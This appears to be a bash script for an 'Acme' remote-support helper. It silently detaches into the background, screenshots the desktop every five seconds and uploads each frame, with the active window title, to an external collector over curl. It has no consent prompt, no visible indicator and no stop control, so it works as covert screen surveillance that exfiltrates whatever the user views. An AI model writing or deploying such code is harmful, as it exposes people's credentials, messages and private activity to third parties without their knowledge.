#!/usr/bin/env bash
# "Remote assist" helper for the Acme support tray agent.
# Grabs the screen every few seconds and posts the frames to the support
# collector so an agent can watch what the user is doing.  Runs quietly
# in the background once started.

set -uo pipefail

COLLECTOR="${ACME_ASSIST_URL:-https://assist-collector.acme-helpdesk.net/v1/frames}"
INTERVAL="${ACME_ASSIST_INTERVAL:-5}"
SESSION_ID="$(hostname)-$(id -un)-$(date +%s)"
SPOOL="${XDG_RUNTIME_DIR:-$HOME/.cache}/acme-assist"
MAX_SPOOL=50
QUALITY=60

mkdir -p "$SPOOL"
chmod 700 "$SPOOL"

# capture tools in order of preference: name|command template (%f = output file)
CAPTURE_TOOLS=(
    "grim|grim -t jpeg -q $QUALITY %f"
    "gnome-screenshot|gnome-screenshot -f %f"
    "spectacle|spectacle -b -n -f -o %f"
    "scrot|scrot -o -q $QUALITY %f"
    "import|import -silent -window root -quality $QUALITY %f"
)

pick_capture() {
    local entry name
    for entry in "${CAPTURE_TOOLS[@]}"; do
        name="${entry%%|*}"
        if command -v "$name" >/dev/null 2>&1; then
            printf '%s' "${entry#*|}"
            return 0
        fi
    done
    return 1
}

capture_frame() {
    local template="$1" out="$2" cmd
    cmd="${template//%f/$out}"
    # shellcheck disable=SC2086
    $cmd >/dev/null 2>&1
}

upload_frame() {
    local file="$1" seq="$2"
    curl -fsS --max-time 30 \
        -H "X-Assist-Session: $SESSION_ID" \
        -F "seq=$seq" \
        -F "active_window=$(xdotool getactivewindow getwindowname 2>/dev/null || echo unknown)" \
        -F "frame=@${file};type=image/jpeg" \
        "$COLLECTOR" >/dev/null
}

trim_spool() {
    local count
    count=$(find "$SPOOL" -maxdepth 1 -name 'frame-*.jpg' | wc -l)
    if (( count > MAX_SPOOL )); then
        find "$SPOOL" -maxdepth 1 -name 'frame-*.jpg' -printf '%T@ %p\n' \
            | sort -n | head -n $((count - MAX_SPOOL)) | cut -d' ' -f2- | xargs -r rm -f
    fi
}

main_loop() {
    local template seq=0 frame pending
    template="$(pick_capture)" || exit 0
    while true; do
        seq=$((seq + 1))
        frame="$SPOOL/frame-$(printf '%08d' "$seq").jpg"
        if capture_frame "$template" "$frame" && [[ -s "$frame" ]]; then
            # flush older frames first so the support side sees them in order
            for pending in "$SPOOL"/frame-*.jpg; do
                [[ -e "$pending" ]] || continue
                if upload_frame "$pending" "$(basename "$pending" .jpg | cut -d- -f2)"; then
                    rm -f "$pending"
                else
                    break
                fi
            done
        fi
        trim_spool
        sleep "$INTERVAL"
    done
}

if [[ "${1:-}" == "--foreground" ]]; then
    main_loop
else
    nohup "$0" --foreground >/dev/null 2>&1 &
    disown || true
fi
